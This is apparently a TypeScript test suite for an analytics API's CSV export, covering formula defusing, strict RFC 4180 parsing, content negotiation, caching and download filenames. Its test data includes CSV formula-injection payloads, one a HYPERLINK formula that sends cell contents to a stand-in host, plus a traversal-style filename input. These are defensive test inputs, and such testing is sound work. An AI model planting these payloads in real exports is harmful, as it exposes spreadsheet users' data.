/** Every list of every response as CSV: a strict reader gets the values of the JSON, whatever they are. */
import assert from 'node:assert/strict';
import { gunzipSync } from 'node:zlib';
import { queries, resultLists } from '@footfall/warehouse';
import { parse } from 'csv-parse/sync';
import { z } from 'zod';
import { expectApiFailure } from './app-rig.fixture.ts';
import { queryString } from './parameter-values.fixture.ts';
import { startHost, type TestHost, type TestReply } from './host.fixture.ts';
import { storeTraffic } from './traffic.fixture.ts';

/** Texts that spreadsheets, readers of CSV or its writer could misinterpret. */
const hostileTexts = [
  '=1+1',
  '=HYPERLINK("http://example.com?"&A1,"open")',
  '=1\n+2',
  '+49 30',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  "'=1",
  'a,b;c\td',
  'say "hi"',
  '"',
  'two\nlines',
  'two\r\nlines',
  ' spaces ',
  '\uFEFFmark',
  'Ünïcode 👩🏽‍💻 \u2028 \u0000',
  '１２３',
  '0012',
  '1e5',
  'NULL',
];

/** Parameters that make optional lists and columns appear. */
const more: Readonly<Record<string, readonly string[]>> = {
  realtime: ['minutes=5'],
  breakdown: [
    'by=source&compare=previous',
    'by=city,country&metrics=sessions,visitors&compare=previous',
    'by=prop:%22plan%22',
    'by=country,prop:a,b',
  ],
  series: ['compare=year&granularity=week'],
};
const requests = queries.flatMap(({ name, result }) =>
  resultLists(result).flatMap(({ name: part }) => {
    const isOptional = Object.entries(result.shape).some(
      ([field, schema]) => field === part && schema instanceof z.ZodOptional,
    );
    const always = isOptional ? [] : [queryString(name)];
    return [...always, ...(more[name] ?? [])].map((search) => ({ name, part, search }));
  }),
);

let host: TestHost;
let headers: { authorization: string };
let emptyHeaders: { authorization: string };

async function newWorkspace() {
  const { workspaceId, key } = await host.newKey();
  return { workspaceId, headers: { authorization: `Bearer ${key}` } };
}

beforeAll(async () => {
  host = await startHost();
  const hostile = await newWorkspace();
  ({ headers } = hostile);
  ({ headers: emptyHeaders } = await newWorkspace());
  for (const name of ['Read a page', '=1+1', 'say "hi", twice']) {
    await host.goals.create(hostile.workspaceId, { name, type: '$pageview', valueProp: 'profit' });
  }
  for (const [index, text] of hostileTexts.entries()) {
    const id = index.toString(16).padStart(16, '0');
    await storeTraffic(host.warehouse, hostile.workspaceId, host.now(), {
      visitorId: id,
      sessionId: id,
      source: text,
      utmSource: text,
      utmMedium: text,
      utmCampaign: text,
      channel: text,
      adPlatform: text,
      browser: text,
      os: text,
      city: text,
      path: text,
      title: text,
      props: { '"plan"': text, 'a,b': text, profit: -1.5 },
    });
  }
});
afterAll(() => host.stop());

const pathOf = (name: string, search: string) => `/api/v1/analytics/${name}?${search}`;

/** Parses a file that follows RFC 4180 strictly. */
function read(reply: TestReply): { header: string[]; records: Record<string, string>[] } {
  const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(reply.body);
  expect(text.endsWith('\r\n')).toBe(true);
  const rows = parse(text, { record_delimiter: '\r\n', relax_column_count: false, relax_quotes: false });
  const [header = [], ...cellsOfRows] = rows;
  const records = cellsOfRows.map((row) =>
    Object.fromEntries(header.map((column, index) => [column, row[index] ?? ''])),
  );
  return { header, records };
}

/** Returns the cells that an entry of JSON should have, with formulas defused. */
function cells(entry: unknown, part: string, column = ''): [string, string][] {
  if (typeof entry === 'object' && entry !== null) {
    return Object.entries(entry).flatMap(([name, value]) => cells(value, part, column ? `${column}_${name}` : name));
  }
  const text = String(entry);
  const isFormula = '=+-@\t\r'.split('').some((start) => text.startsWith(start));
  return [[column || part, isFormula ? `'${text}` : text]];
}

describe.each(requests)('$part of $name with "$search"', ({ name, part, search }) => {
  it('F8 reads back as what JSON says, formulas defused', async () => {
    const { [part]: entries }: Record<string, unknown[]> = Object(
      (await host.get(pathOf(name, search), headers)).json(),
    );
    assert(entries !== undefined);
    const reply = await host.get(pathOf(name, `${search}&format=csv&part=${part}`), headers);
    const columns = [...new Set(entries.flatMap((entry) => cells(entry, part).map(([column]) => column)))];
    const blank = Object.fromEntries(columns.map((column) => [column, '']));
    expect(entries).not.toEqual([]);
    expect(reply.status).toBe(200);
    expect(read(reply)).toEqual({
      header: columns,
      records: entries.map((entry) => ({ ...blank, ...Object.fromEntries(cells(entry, part)) })),
    });
  });

  it('F10 has a header row of the same columns in a workspace without data', async () => {
    const path = pathOf(name, `${search}&format=csv&part=${part}`);
    const [busy, empty] = await Promise.all([host.get(path, headers), host.get(path, emptyHeaders)]);
    const { header } = read(empty);
    expect(header).toEqual(read(busy).header);
  });
});

describe('the format of a response', () => {
  const accepting = (accept: string) => ({ ...headers, accept });
  const typeOf = async (search: string, own = headers) =>
    (await host.get(pathOf('pages', search), own)).headers['content-type'];
  const json = 'application/json; charset=utf-8';
  const csv = 'text/csv; charset=utf-8';

  it('is that of the parameter, otherwise the one that Accept prefers, otherwise JSON', async () => {
    expect(await typeOf('')).toBe(json);
    expect(await typeOf('', accepting('text/csv'))).toBe(csv);
    expect(await typeOf('', accepting('text/csv; charset=utf-8; header=present'))).toBe(csv);
    expect(await typeOf('', accepting('text/csv; charset=utf-8; q=0.5, application/json'))).toBe(json);
    expect(await typeOf('', accepting('text/csv, */*;q=0.1'))).toBe(csv);
    expect(await typeOf('', accepting('application/json;q=0.5, TEXT/CSV'))).toBe(csv);
    expect(await typeOf('', accepting('text/csv;q=0.5, application/json'))).toBe(json);
    expect(await typeOf('', accepting('text/html, */*'))).toBe(json);
    expect(await typeOf('', accepting('text/csv;q=0'))).toBe(json);
    expect(await typeOf('format=json', accepting('text/csv'))).toBe(json);
    expect(await typeOf('format=csv', accepting('application/json'))).toBe(csv);
  });

  it.each([
    ['devices', 'format=csv', 'part must be one of browsers, devices, operatingSystems for CSV, got nothing'],
    ['devices', 'format=csv&part=data', 'part must be one of browsers, devices, operatingSystems, got "data"'],
    ['devices', 'part=data', 'part must be one of browsers, devices, operatingSystems, got "data"'],
    ['pages', 'format=csv&part=', 'part must be data, got ""'],
    ['pages', 'format=xlsx', 'format must be one of json, csv, got "xlsx"'],
    ['pages', 'format=csv&format=csv', 'format must be one of json, csv, got several values'],
    [
      'sources',
      'format=csv&part=referrers&part=referrers',
      'part must be one of referrers, utmSources, got several values',
    ],
    ['pages', 'format=csv&limit=0', 'limit must be an integer from 1 to 1000, got "0"'],
    [
      'realtime',
      'format=csv&part=recent',
      'part must be a list in the response to these parameters, got "recent". Only with the parameter minutes: the last events, newest first.',
    ],
  ])('F6 is refused as JSON by %s with %s', async (name, search, message) => {
    expect(expectApiFailure(await host.get(pathOf(name, search), headers), 400, 'BAD_REQUEST')).toBe(message);
  });

  it('F6 is refused where Accept wants a list, and the response has several', async () => {
    const reply = await host.get(pathOf('geo', ''), accepting('text/csv'));
    expect(expectApiFailure(reply, 400, 'BAD_REQUEST')).toContain('countries, cities');
  });

  it('does not affect the cache key: CSV and JSON share a computation, and differ in their ETag', async () => {
    const search = 'by=browser&start=2026-11-01';
    const asCsv = await host.get(pathOf('breakdown', `${search}&format=csv`), headers);
    const asJson = await host.get(pathOf('breakdown', search), headers);
    expect(asJson.json()).toMatchObject({ fromCache: true });
    expect(asCsv.headers['x-ignored-parameters']).toBeUndefined();
    expect(asCsv.headers['x-period']).toBe(asJson.headers['x-period']);
    expect(asCsv.headers['last-modified']).toBe(asJson.headers['last-modified']);
    expect(asCsv.headers['cache-control']).toBe('private, max-age=300');
    expect(asCsv.headers.vary).toMatch(/^Accept, Accept-Encoding, /);
    expect(asJson.headers.vary).toBe(asCsv.headers.vary);
    const etags = [asCsv, asJson].map((reply) => String(reply.headers.etag));
    expect(new Set(etags).size).toBe(2);
    for (const [etag, status] of [
      [etags[0] ?? '', 304],
      [etags[1] ?? '', 200],
    ] as const) {
      const again = await host.get(pathOf('breakdown', `${search}&format=csv`), {
        ...headers,
        'if-none-match': etag,
      });
      expect([again.status, again.body.length > 0]).toEqual([status, status === 200]);
    }
  });

  it('F11 F15 is compressed as requested, and responds to HEAD without the body', async () => {
    const path = pathOf('geo', 'format=csv&part=cities');
    const plain = await host.get(path, headers);
    const gzipped = await host.get(path, { ...headers, 'accept-encoding': 'gzip' });
    expect(gzipped.headers['content-encoding']).toBe('gzip');
    expect(gunzipSync(gzipped.body)).toEqual(plain.body);
    const head = await host.send(path, { method: 'HEAD', headers });
    expect([head.status, head.body.length]).toEqual([200, 0]);
    for (const name of ['content-type', 'content-length', 'content-disposition', 'etag']) {
      expect(head.headers[name]).toBe(plain.headers[name]);
    }
  });

  it('is a file named after the endpoint, the list and the days', async () => {
    const nameOf = async (name: string, search: string) =>
      (await host.get(pathOf(name, `format=csv&${search}`), headers)).headers['content-disposition'];
    const days = 'start=2026-11-01&end=2026-11-15';
    expect(await nameOf('pages', days)).toBe('attachment; filename="pages-2026-11-01-2026-11-15.csv"');
    expect(await nameOf('devices', `${days}&part=browsers`)).toBe(
      'attachment; filename="devices-browsers-2026-11-01-2026-11-15.csv"',
    );
    expect(await nameOf('pages', `${days}&timezone=Asia/Kathmandu`)).toBe(
      'attachment; filename="pages-2026-11-01-2026-11-15.csv"',
    );
    expect(await nameOf('pages', 'start=2026-11-01T10:00:00Z&end=2026-11-01T12:00:00Z')).toBe(
      'attachment; filename="pages-2026-11-01-2026-11-01.csv"',
    );
  });

  it.each([
    ['breakdown', 'by=country', 'breakdown-country'],
    ['breakdown', '', 'breakdown-path'],
    ['breakdown', 'by=city,country', 'breakdown-city-country'],
    ['breakdown', `by=${encodeURIComponent('prop:"../plän"\r\n')}`, 'breakdown-prop-..-pl-n'],
    ['breakdown', `by=prop:${'a'.repeat(100)},prop:b`, `breakdown-prop-${'a'.repeat(55)}`],
    ['properties', 'type=$pageview', 'properties-pageview'],
    ['properties', 'type=signup&name=plan', 'properties-signup-plan'],
    ['properties', `type=${encodeURIComponent('登録')}`, 'properties'],
    ['series', '', 'series-day'],
    ['series', 'granularity=week', 'series-week'],
    ['visitors', 'granularity=hour', 'visitors-hour'],
  ])('is a file named after what distinguishes it: %s with %s', async (name, search, expected) => {
    const reply = await host.get(pathOf(name, `format=csv&start=2026-11-01&end=2026-11-15&${search}`), headers);
    expect(reply.headers['content-disposition']).toBe(`attachment; filename="${expected}-2026-11-01-2026-11-15.csv"`);
  });
});
